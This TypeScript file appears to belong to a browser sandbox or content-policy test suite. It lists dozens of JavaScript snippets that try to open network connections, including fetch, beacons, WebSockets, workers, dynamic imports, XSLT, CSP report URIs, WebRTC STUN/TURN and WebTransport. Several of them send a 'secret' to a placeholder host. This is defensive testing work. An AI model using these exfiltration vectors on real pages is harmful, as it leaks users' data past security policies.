import { family, inScript } from './vector.ts';

/** Code that opens connections by itself. */
export const network = family(
  'network',
  { batch: true },
  {
    ...inScript({
      'fetch get': `fetch('%H%/x').catch(() => {})`,
      'fetch no-cors post': `fetch('%H%/x', { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => {})`,
      'fetch keepalive': `fetch('%H%/x', { keepalive: true, mode: 'no-cors' }).catch(() => {})`,
      'fetch of the viewer': `fetch('%V%?' + Math.random()).then((r) => got('a response ' + r.type)).catch(() => {}); fetch('%H%/x', { mode: 'no-cors' }).catch(() => {})`,
      'fetch of a blob that redirects nowhere': `fetch(URL.createObjectURL(new Blob(['x']))).then(() => fetch('%H%/x')).catch(() => fetch('%H%/y').catch(() => {}))`,
      fetchLater: `globalThis.fetchLater && fetchLater('%H%/x', { activateAfter: 0 }); fetch('%H%/y').catch(() => {})`,
      XMLHttpRequest: `const x = new XMLHttpRequest(); x.open('GET', '%H%/x'); x.send()`,
      'XMLHttpRequest synchronous': `try { const x = new XMLHttpRequest(); x.open('GET', '%H%/x', false); x.send(); } catch {}`,
      sendBeacon: `navigator.sendBeacon('%H%/x', 'secret')`,
      'sendBeacon at pagehide': `addEventListener('pagehide', () => navigator.sendBeacon('%H%/x', 'secret')); navigator.sendBeacon('%H%/y')`,
      EventSource: `new EventSource('%H%/x')`,
      WebSocket: `new WebSocket('%W%/x')`,
      'WebSocket with a protocol as data': `new WebSocket('%W%/x', ['secret'])`,
      WebSocketStream: `globalThis.WebSocketStream ? new WebSocketStream('%W%/x') : new WebSocket('%W%/x')`,
      'image object': `new Image().src = '%H%/x.png'`,
      'audio object': `new Audio('%H%/x.mp3').play().catch(() => {})`,
      FontFace: `new FontFace('x', 'url(%H%/x.woff2)').load().catch(() => {})`,
      'dynamic import': `import('%H%/x.js').catch(() => {})`,
      'dynamic import from a blob': `import(URL.createObjectURL(new Blob(['import "%H%/x.js"'], { type: 'text/javascript' }))).catch(() => {})`,
      'dynamic import in eval': `eval("import('%H%/x.js').catch(() => {})")`,
      'dynamic import from data': `import('data:text/javascript,import "%H%/x.js"').catch(() => {})`,
      'import with type css': `import('%H%/x.css', { with: { type: 'css' } }).catch(() => {})`,
      'import with type json': `import('%H%/x.json', { with: { type: 'json' } }).catch(() => {})`,
      'worker from an address': `try { new Worker('%H%/x.js') } catch {} new Image().src = '%H%/y'`,
      'worker from a blob': `new Worker(URL.createObjectURL(new Blob(["fetch('%H%/x', { mode: 'no-cors' })"])))`,
      'worker from data': `new Worker("data:text/javascript,fetch('%H%/x', { mode: 'no-cors' })")`,
      'module worker from a blob': `new Worker(URL.createObjectURL(new Blob(["import '%H%/x.js'"], { type: 'text/javascript' })), { type: 'module' })`,
      'shared worker from data': `new SharedWorker("data:text/javascript,fetch('%H%/x', { mode: 'no-cors' })")`,
      'shared worker from a blob': `new SharedWorker(URL.createObjectURL(new Blob(["fetch('%H%/x', { mode: 'no-cors' })"])))`,
      'audio worklet': `const c = new OfflineAudioContext(1, 1, 44100); c.audioWorklet.addModule('%H%/x.js').catch(() => {})`,
      'audio worklet from a blob': `const c = new OfflineAudioContext(1, 1, 44100); c.audioWorklet.addModule(URL.createObjectURL(new Blob(["import '%H%/x.js'"], { type: 'text/javascript' }))).catch(() => {})`,
      'paint worklet': `globalThis.CSS?.paintWorklet ? CSS.paintWorklet.addModule('%H%/x.js').catch(() => {}) : new Image().src = '%H%/y'`,
      'execCommand insertImage': `document.body.contentEditable = 'true'; document.body.focus(); getSelection().selectAllChildren(document.body); document.execCommand('insertImage', false, '%H%/x.png'); document.execCommand('insertHTML', false, '<img src=%H%/y.png>')`,
      'DOMParser and adoption': `document.body.append(document.adoptNode(new DOMParser().parseFromString('<img src="%H%/x.png">', 'text/html').body.firstChild))`,
      'createHTMLDocument image': `const d = document.implementation.createHTMLDocument(); d.body.innerHTML = '<img src="%H%/x.png">'; document.body.append(d.body.firstChild)`,
      'setHTMLUnsafe with a shadow root': `const d = document.createElement('div'); document.body.append(d); const html = '<div><template shadowrootmode=open><img src="%H%/x.png"></template></div>'; d.setHTMLUnsafe ? d.setHTMLUnsafe(html) : d.innerHTML = '<img src="%H%/x.png">'`,
      'XSLT document()': `const x = new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document(\\'%H%/x.xml\\')"/></xsl:template></xsl:stylesheet>', 'text/xml'); try { const p = new XSLTProcessor(); p.importStylesheet(x); p.transformToFragment(x, document); } catch {} new Image().src = '%H%/y'`,
      'reporting endpoint by a meta policy': `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="Content-Security-Policy" content="img-src \\'none\\'; report-uri %H%/x">'); new Image().src = '%H%/y.png'`,
      'custom element upgrade': `customElements.define('x-x', class extends HTMLElement { connectedCallback() { this.innerHTML = '<img src=%H%/x.png>' } }); document.body.append(document.createElement('x-x'))`,
      'video with a MediaSource fallback': `const v = document.createElement('video'); v.innerHTML = '<source src="%H%/x.mp4">'; document.body.append(v); v.load()`,
      'Cache.add': `caches.open('x').then((c) => c.add('%H%/x')).catch(() => fetch('%H%/y').catch(() => {}))`,
      'WebAssembly streaming': `WebAssembly.compileStreaming(fetch('%H%/x.wasm')).catch(() => {})`,
      'background fetch and sync': `navigator.serviceWorker?.ready.then((r) => r.backgroundFetch?.fetch('x', '%H%/x')); fetch('%H%/y').catch(() => {})`,
      joinAdInterestGroup: `try { navigator.joinAdInterestGroup?.({ owner: '%H%', name: 'x', updateURL: '%H%/x' }, 1).catch(() => {}) } catch {} new Image().src = '%H%/y'`,
    }),
    'worker that spawns from the clone of a frame': {
      javascript: `const f = document.createElement('iframe'); f.srcdoc = "<script>new Worker(URL.createObjectURL(new Blob([\\"fetch('%H%/x', { mode: 'no-cors' })\\"])))</" + "script>"; document.body.append(f)`,
      expected: 'contained',
    },
    'clone of the policy through about:blank': {
      javascript: `const f = document.createElement('iframe'); document.body.append(f); try { f.contentWindow.fetch('%H%/x', { mode: 'no-cors' }).catch(() => {}) } catch {} new Image().src = '%H%/y'`,
      expected: 'nested-frame',
    },
  },
);

const peer = (servers: string, more = ''): string =>
  `try { const p = new RTCPeerConnection({ iceServers: [${servers}] }); p.createDataChannel('x'); ` +
  `p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => {}); ${more} } catch {}`;

/** WebRTC and WebTransport: UDP, and the policies of documents do not speak of them. */
export const realTime = family(
  'real time',
  { datagrams: true, wait: 2_000, batch: true },
  inScript({
    'STUN by name': peer(`{ urls: 'stun:%N%:3478' }`),
    'STUN by address': peer(`{ urls: 'stun:%A%:3478' }`),
    'TURN with data as user name': peer(
      `{ urls: 'turn:%A%:3478', username: 'secret', credential: 'x' }`,
    ),
    'TURN over TCP': peer(
      `{ urls: 'turn:%A%:3478?transport=tcp', username: 'secret', credential: 'x' }`,
    ),
    'TURN over TLS': peer(
      `{ urls: 'turns:%N%:443?transport=tcp', username: 's', credential: 'x' }`,
    ),
    'a candidate of the attacker': `try { const p = new RTCPeerConnection(); p.createDataChannel('x');
      p.createOffer().then(async (o) => { await p.setLocalDescription(o);
      const q = new RTCPeerConnection(); await q.setRemoteDescription(o);
      const a = await q.createAnswer(); await q.setLocalDescription(a);
      await p.setRemoteDescription({ type: 'answer', sdp: a.sdp.replace(/a=candidate.*\\r\\n/g, '') });
      await p.addIceCandidate({ sdpMid: '0', candidate: 'candidate:1 1 udp 2122260223 %A% 3478 typ host' }); }).catch(() => {}) } catch {}`,
    'WebRTC in a nested frame': {
      javascript: `const f = document.createElement('iframe'); document.body.append(f);
      try { const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:%A%:3478' }] });
      p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)); } catch {}`,
      expected: 'nested-frame',
    },
    'WebRTC in a frame of a closed declarative shadow root': `const d = document.createElement('div'); document.body.append(d);
      const html = '<div><template shadowrootmode=closed><iframe srcdoc="<script>const p = new RTCPeerConnection({ iceServers: [{ urls: &quot;stun:%A%:3478&quot; }] }); p.createDataChannel(1); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>"></iframe></template></div>';
      d.setHTMLUnsafe ? d.setHTMLUnsafe(html) : (d.innerHTML = html);`,
    'STUN with a gathered certificate': `RTCPeerConnection.generateCertificate({ name: 'ECDSA', namedCurve: 'P-256' }).then((c) => { const p = new RTCPeerConnection({ certificates: [c], iceCandidatePoolSize: 4, iceServers: [{ urls: 'stun:%A%:3478' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) }).catch(() => {})`,
    WebTransport: `try { const t = new WebTransport('https://%N%/x'); t.ready.catch(() => {}); t.closed.catch(() => {}); } catch {}`,
    'WebTransport by address': `try { const t = new WebTransport('https://%A%/x', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }); t.ready.catch(() => {}); t.closed.catch(() => {}); } catch {}`,
  }),
);
